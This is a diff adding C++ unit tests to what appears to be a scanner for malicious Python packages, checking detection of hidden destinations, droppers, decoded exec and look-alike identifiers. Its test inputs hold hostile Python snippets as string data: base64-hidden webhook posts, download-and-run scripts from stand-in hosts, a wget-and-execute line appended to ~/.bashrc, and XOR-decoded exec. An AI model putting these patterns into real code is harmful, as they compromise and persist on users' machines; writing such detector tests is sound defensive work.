@@ -464,6 +464,77 @@ TEST(Behaviour, NetworkAddressHiddenInAnEncodedLiteral) {
   ExpectFinding("H = 'Y29sbGVjdG9yLmV4YW1wbGUubmV0Ojg0NDMvdXBsb2FkL3Yy'\n", "hidden-destination", Severity::kHigh, Phase::kRuntime);  // host:port/path
 }
 
+TEST(Behaviour, HiddenAddressDecodedToBytesOrLookedUp) {
+  // The decoded address stays bytes (requests takes bytes URLs), through
+  // variables and re-assignments.
+  ExpectFinding("import base64, requests\ndef f(t):\n    h = 'aHR0cHM6Ly94LmV4YW1wbGUvaG9vay8xMjM0NTY='\n"
+                "    u = h.encode('ascii')\n    u = base64.b64decode(u)\n    requests.post(u, json={'t': t})\n",
+                "hidden-destination", Severity::kHigh, Phase::kRuntime);
+  // A host name resolved in DNS from an encoded literal: the lookup is the beacon.
+  ExpectFinding("import base64, socket\nsocket.gethostbyname(base64.b64decode('d3d3LmV4YW1wbGUubmV0'))\n",
+                "hidden-destination", Severity::kHigh, Phase::kInstall, /*install=*/true);
+  ExpectNoFinding("import socket\nsocket.gethostbyname(socket.gethostname())\n", "hidden-destination");
+  ExpectNoFinding("import socket\nsocket.gethostbyname('www.example.net')\n", "hidden-destination");
+}
+
+TEST(Behaviour, CodeWrittenToAFileIsAnalysed) {
+  // A script written out and started: its own code is judged.
+  auto fs = Analyze("import os\ndef f():\n    open('/tmp/x.py', 'w').write('import os, urllib.request\\n"
+                    "urllib.request.urlretrieve(\"https://x.example/a.sh\", \"/tmp/.a.sh\")\\n"
+                    "os.system(\"bash /tmp/.a.sh\")\\n')\n    os.system('python3 /tmp/x.py &')\n",
+                    Phase::kRuntime);
+  const Finding* dl = Find(fs, "download-exec");
+  ASSERT_NE(dl, nullptr) << Rules(fs);
+  EXPECT_EQ(dl->chain, "written to a file");
+  EXPECT_EQ(Find(fs, "payload-decoded"), nullptr) << Rules(fs);  // written out, not hidden
+  // A temporary file given code that runs what it downloads.
+  ExpectFinding("from tempfile import NamedTemporaryFile as tf\nfrom os import system\nt = tf(delete=False)\n"
+                "t.write(b\"from urllib.request import urlopen as u;exec(u('https://p.example/raw/a').read())\")\n"
+                "t.close()\nsystem('start pythonw ' + t.name)\n",
+                "exec-remote", Severity::kHigh, Phase::kRuntime);
+  // Shell text appended to a shell start-up file.
+  ExpectFinding("import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
+                "        fh.write('wget https://x.example/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &')\n",
+                "download-exec", Severity::kCritical, Phase::kRuntime);
+  // Scripts written by a module that starts no program, or that neither
+  // download nor run anything, stay data.
+  ExpectNoFinding("def f():\n    open('x.py', 'w').write('import os, urllib.request\\n"
+                  "urllib.request.urlretrieve(\"https://x.example/a.sh\", \"/tmp/.a.sh\")\\n"
+                  "os.system(\"bash /tmp/.a.sh\")\\n')\n", "download-exec");
+  ExpectNoFinding("import subprocess\ndef f():\n    open('b.sh', 'w').write('#!/bin/sh\\nset -e\\nmake all\\n')\n"
+                  "    open('g.py', 'w').write('import sys\\nprint(sys.version)\\n')\n"
+                  "    subprocess.call(['sh', 'b.sh'])\n", "download-exec");
+}
+
+TEST(Behaviour, DownloadWriteAndStartByNameInOneFunction) {
+  // Nested helpers download to a path and start the path: one dropper.
+  const char kDrop[] =
+      "import requests, subprocess\ndef get_and_run(url, path):\n"
+      "    def save(u, p):\n        r = requests.get(u)\n        with open(p, 'wb') as f:\n"
+      "            f.write(r.content)\n    def run(p):\n        subprocess.Popen(p)\n"
+      "    save(url, path)\n    run(path)\n";
+  ExpectFinding(kDrop, "download-exec", Severity::kMedium, Phase::kRuntime);
+  // Without a file written, a command in a variable is not taken for one.
+  ExpectNoFinding("import requests, subprocess\ndef f(url, cmd):\n    r = requests.get(url)\n"
+                  "    subprocess.Popen(cmd)\n", "download-exec");
+}
+
+TEST(Behaviour, CodeDecryptedThroughSeveralStepsIsDecoded) {
+  // hex -> XOR with a key given by the caller -> text -> exec: decoded code
+  // even though no single assignment holds both the decoder and exec.
+  const char kXor[] =
+      "def start(key_hex):\n    blob = bytearray.fromhex('0a1b2c3d4e5f60718293a4b5c6d7e8f9')\n"
+      "    key = bytearray.fromhex(key_hex)\n"
+      "    out = bytearray([blob[i] ^ key[i % 6] for i in range(len(blob))])\n"
+      "    code = out.decode('ascii').replace('HOST', 'x.example')\n    exec(code)\n";
+  ExpectFinding(kXor, "exec-dynamic", Severity::kHigh, Phase::kRuntime);
+  // Code merely assembled from plain text stays weak outside load time.
+  auto fs = Analyze("def f(name):\n    src = 'print(' + repr(name) + ')'\n    code = src.strip()\n"
+                    "    exec(code)\n", Phase::kRuntime);
+  const Finding* f = Find(fs, "exec-dynamic");
+  EXPECT_TRUE(f == nullptr || f->severity < Severity::kHigh) << Rules(fs);
+}
+
 TEST(Behaviour, NetworkAtInstall) {
   ExpectFinding("from setuptools import setup\nimport requests\nsetup(name='x')\n"
                 "requests.get('http://x.example/?d=1')\n",
@@ -549,6 +620,25 @@ TEST(Concealment, InvisibleAndMixedScriptIdentifiers) {
   ExpectFinding("a\u200bb = 1\n", "obfuscated-identifier", Severity::kHigh);
   ExpectFinding("p\u0430yload = 1\n", "obfuscated-identifier");  // Cyrillic a
   ExpectNoFinding("\u0434\u0430\u043d\u043d\u044b\u0435 = 1\n", "obfuscated-identifier");
+}
+
+TEST(Concealment, IdentifiersSpeltInLookAlikeCharacters) {
+  // Names an obfuscator gives: strings of l, I, 1, O and 0.
+  auto names = [](int n) {
+    std::string code;
+    for (int i = 0; i < n; ++i) {
+      std::string name = "lI";
+      for (int b = 0; b < 8; ++b) name += (i >> b) & 1 ? "O0"[b % 2] : "l1"[b % 2];
+      code += name + " = " + std::to_string(i) + "\n";
+    }
+    return code;
+  };
+  ExpectNoFinding(names(5), "obfuscated-identifier");
+  ExpectFinding(names(8), "obfuscated-identifier", Severity::kMedium, Phase::kImport);
+  ExpectFinding(names(25), "obfuscated-identifier", Severity::kHigh, Phase::kImport);
+  // One letter repeated, digits only, ordinary names: not look-alike spelling.
+  ExpectNoFinding("llllll = 1\nIIIIII = 2\nOOOOOO = 3\n_100100 = 4\nhello_world = 5\n"
+                  "l1 = 6\nI0 = 7\nlOlO = 8\n", "obfuscated-identifier");
 }
 
 TEST(Concealment, EntropyAndPyArmor) {
